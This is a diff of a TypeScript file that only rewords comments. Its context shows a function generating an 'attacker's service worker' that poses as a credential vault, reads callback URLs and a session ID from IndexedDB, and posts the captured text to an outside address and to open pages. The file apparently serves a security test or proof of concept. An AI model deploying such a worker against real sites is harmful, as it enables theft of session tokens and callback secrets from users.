@@ -1,6 +1,6 @@
 /**
- * The text of a service worker of the attacker's own: it poses as the vault towards the keepers, and reads the URL of
- * every callback. What it cannot send itself it tells the pages.
+ * The source of the attacker's service worker. It imitates the vault towards keepers and reads the URL of every callback. It
+ * posts to pages what it cannot send itself.
  */
 export function ownWorker(home: string): string {
   return `
@@ -10,7 +10,7 @@ export function ownWorker(home: string): string {
       await fetch(${JSON.stringify(home)}, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
       for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage(text);
     };
-    // A keeper gives its copy to a worker that names the session: the session hint does.
+    // A keeper hands its copy to a worker that names the session, whose ID is in the session hint.
     const sessionId = () => new Promise((resolve) => {
       const opening = indexedDB.open("strongroom");
       opening.onsuccess = () => {
